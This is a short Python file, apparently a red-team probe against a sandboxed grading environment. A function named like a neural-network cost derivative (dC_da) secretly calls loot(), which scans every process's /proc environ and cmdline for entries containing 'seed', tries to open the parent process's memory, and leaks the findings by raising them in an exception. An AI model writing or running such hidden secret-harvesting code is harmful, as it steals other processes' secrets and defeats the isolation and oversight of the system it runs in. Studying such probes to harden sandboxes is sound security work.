"""Look for the secret in /proc: environments, memory, command lines. Needs the kernel tier."""

ATTACK = True


def loot():
    import glob
    import os

    found = []
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            text = open(path, "rb").read()
        except OSError:
            continue
        found += [part.decode("utf-8", "replace") for part in text.split(b"\0") if b"seed" in part.lower()]
    try:
        open(f"/proc/{os.getppid()}/mem", "rb")
        found.append("LOOT: memory")
    except OSError:
        pass
    return "LOOT " + " ".join(found) if found else ""


def dC_da(a, y):
    if ATTACK and (found := loot()):
        raise ValueError(found)
    return a - y
